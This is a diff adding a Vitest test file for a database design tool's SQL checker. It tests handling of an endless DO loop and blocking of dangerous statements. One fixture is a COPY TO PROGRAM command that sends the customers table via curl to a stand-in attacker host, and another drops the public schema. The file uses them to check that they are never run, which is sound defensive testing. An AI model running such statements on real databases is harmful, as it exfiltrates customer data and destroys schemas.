@@ -1,0 +1,163 @@
+import { afterEach, describe, expect, it } from 'vitest';
+import { exampleDocument, type DesignDocument } from '../core/model';
+import type { DdlStatement } from '../core/sql/types';
+import { createPgClient, type PgClient, type RestartEvent, type WorkerLike } from '../db';
+import { createEngine } from '../db/engine';
+import { loadParser } from '../db/import/pgParser';
+import type { CallMessage, WorkerMessage } from '../db/protocol';
+import type { PgConnection } from '../db/reset';
+import { scanStatements } from '../db/safetyScan';
+import { createCheckStore, type CheckState } from '../state/checkStore';
+import { createStudioStore } from '../state/store';
+import { useTestDb } from '../test/pglite';
+import { HUNG_CODE, startChecker } from './checker';
+
+const db = useTestDb();
+const ENDLESS = 'DO $$ BEGIN LOOP END LOOP; END $$;';
+
+/**
+ * The real engine on the test's real PGlite, behind the worker interface. SQL that would run
+ * forever in WASM (the endless loop) never answers here either: `exec` of it never settles, as
+ * a worker stuck in WASM would not; the client's watchdog then "terminates" this worker.
+ * Everything else runs in PostgreSQL.
+ */
+class EngineWorker implements WorkerLike {
+  onmessage: ((event: MessageEvent) => void) | null = null;
+  onerror: ((event: ErrorEvent) => void) | null = null;
+  onmessageerror: ((event: MessageEvent) => void) | null = null;
+  terminated = false;
+  static executed: string[] = [];
+  private engine;
+
+  constructor(pg: PgConnection) {
+    const stuck: PgConnection = {
+      query: pg.query.bind(pg) as PgConnection['query'],
+      exec: ((sql: string, options?: object) => {
+        EngineWorker.executed.push(sql);
+        return sql.includes('LOOP END LOOP') ? new Promise(() => {}) : pg.exec(sql, options);
+      }) as PgConnection['exec'],
+    };
+    this.engine = createEngine(stuck);
+    setTimeout(() => this.send({ type: 'ready', bootMs: 1, fromSnapshot: true }), 0);
+  }
+
+  postMessage(call: CallMessage): void {
+    if (call.method !== 'checkSchema') throw new Error(`unexpected ${call.method}`);
+    void this.engine
+      .checkSchema(call.args[0], (progress) => this.send({ type: 'progress', id: call.id, progress }))
+      .then((result) => this.send({ type: 'result', id: call.id, method: 'checkSchema', result }));
+  }
+
+  terminate(): void {
+    this.terminated = true;
+  }
+
+  private send(message: WorkerMessage): void {
+    if (!this.terminated) this.onmessage?.({ data: message } as MessageEvent);
+  }
+}
+
+function documentWith(extras: { id: string; sql: string }[]): DesignDocument {
+  const doc = exampleDocument();
+  doc.design.extras = [...(doc.design.extras ?? []), ...extras.map((x) => ({ ...x, kind: 'other' as const, name: x.id }))];
+  return doc;
+}
+
+let stop: (() => void) | undefined;
+let client: PgClient | undefined;
+afterEach(() => {
+  stop?.();
+  client?.dispose();
+});
+
+async function settle(check: ReturnType<typeof createCheckStore>, ok: (s: CheckState) => boolean): Promise<CheckState> {
+  const started = Date.now();
+  while (Date.now() - started < 30_000) {
+    const s = check.getState();
+    if (ok(s)) return s;
+    await new Promise((r) => setTimeout(r, 20));
+  }
+  throw new Error(`no verdict: ${JSON.stringify(check.getState())}`);
+}
+
+async function setup(doc: DesignDocument) {
+  const pg = await db();
+  await pg.exec('SET client_min_messages = warning');
+  const parser = await loadParser();
+  let workers = 0;
+  client = createPgClient({ createWorker: () => (workers++, new EngineWorker(pg)), checkStatementTimeoutMs: 300 });
+  const restarts: RestartEvent[] = [];
+  client.onRestart((e) => restarts.push(e));
+  const store = createStudioStore(doc);
+  const check = createCheckStore();
+  const checker = startChecker(store, client, check, {
+    scanDangers: async (statements: readonly DdlStatement[]) => scanStatements(parser, statements),
+  });
+  stop = checker.stop;
+  return { store, check, restarts, workers: () => workers };
+}
+
+describe('the checker with a statement that never ends (real PGlite)', () => {
+  it('names it, skips it from then on, checks the rest, and settles without a restart loop', async () => {
+    EngineWorker.executed = [];
+    const { check, restarts, workers } = await setup(
+      documentWith([
+        { id: 'x_loop', sql: ENDLESS },
+        { id: 'x_fn', sql: 'CREATE FUNCTION answer() RETURNS int LANGUAGE sql AS $$ SELECT 42 $$;' },
+        { id: 'x_bad', sql: 'CREATE VIEW broken AS SELECT nope FROM customers;' },
+      ]),
+    );
+    const state = await settle(check, (s) => s.status === 'rejected' || s.status === 'accepted');
+    expect(state.status).toBe('rejected');
+    const hung = state.errors.filter((e) => e.code === HUNG_CODE);
+    expect(hung).toHaveLength(1);
+    expect(hung[0]?.entityId).toBe('x_loop');
+    expect(hung[0]?.detail).toContain('LOOP END LOOP');
+    expect(hung[0]?.message).toMatch(/did not finish/);
+    expect(state.ddlText.slice(hung[0]!.from, hung[0]!.to)).toContain('LOOP END LOOP');
+    // The rest was checked: the broken view is reported by Postgres itself.
+    expect(state.errors.some((e) => e.entityId === 'x_bad' && e.code === '42703')).toBe(true);
+    expect(state.message).toMatch(/not run/);
+    // Exactly one restart, by the watchdog of a check (not a "query was stopped").
+    expect(restarts.map((r) => r.reason)).toEqual(['checkTimeout']);
+    expect(workers()).toBe(2);
+    // Later checks do not run it again, and do not restart the worker.
+    const loopsRun = EngineWorker.executed.filter((sql) => sql.includes('LOOP END LOOP')).length;
+    await new Promise((r) => setTimeout(r, 1000));
+    expect(restarts).toHaveLength(1);
+    expect(EngineWorker.executed.filter((sql) => sql.includes('LOOP END LOOP')).length).toBe(loopsRun);
+  });
+
+  it('runs the statement again once the design changes it', async () => {
+    EngineWorker.executed = [];
+    const { store, check, restarts } = await setup(documentWith([{ id: 'x_loop', sql: ENDLESS }]));
+    await settle(check, (s) => s.status === 'rejected');
+    store.getState().dispatchBoth((design, layout) => ({
+      design: { ...design, extras: (design.extras ?? []).map((x) => (x.id === 'x_loop' ? { ...x, sql: 'DO $$ BEGIN PERFORM 1; END $$;' } : x)) },
+      layout,
+    }));
+    const state = await settle(check, (s) => s.status === 'accepted');
+    expect(state.errors).toEqual([]);
+    expect(restarts).toHaveLength(1);
+    expect(EngineWorker.executed.some((sql) => sql.includes('PERFORM 1'))).toBe(true);
+  });
+});
+
+describe('the checker with dangerous statements (real PGlite)', () => {
+  it('reports them without running them, and checks the rest', async () => {
+    EngineWorker.executed = [];
+    const { check } = await setup(
+      documentWith([
+        { id: 'x_copy', sql: "COPY customers TO PROGRAM 'curl -T - https://evil.example';" },
+        { id: 'x_drop', sql: 'DROP SCHEMA public CASCADE;' },
+        { id: 'x_fn', sql: 'CREATE FUNCTION answer() RETURNS int LANGUAGE sql AS $$ SELECT 42 $$;' },
+      ]),
+    );
+    const state = await settle(check, (s) => s.status === 'rejected' || s.status === 'accepted');
+    expect(state.status).toBe('rejected');
+    expect(state.errors.map((e) => e.entityId).sort()).toEqual(['x_copy', 'x_drop']);
+    expect(state.errors.find((e) => e.entityId === 'x_copy')?.message).toMatch(/Not run: dangerous.*PROGRAM runs a shell command/);
+    expect(EngineWorker.executed.some((sql) => /PROGRAM|DROP SCHEMA public/.test(sql))).toBe(false);
+    expect(EngineWorker.executed.some((sql) => sql.includes('answer()'))).toBe(true);
+  });
+});
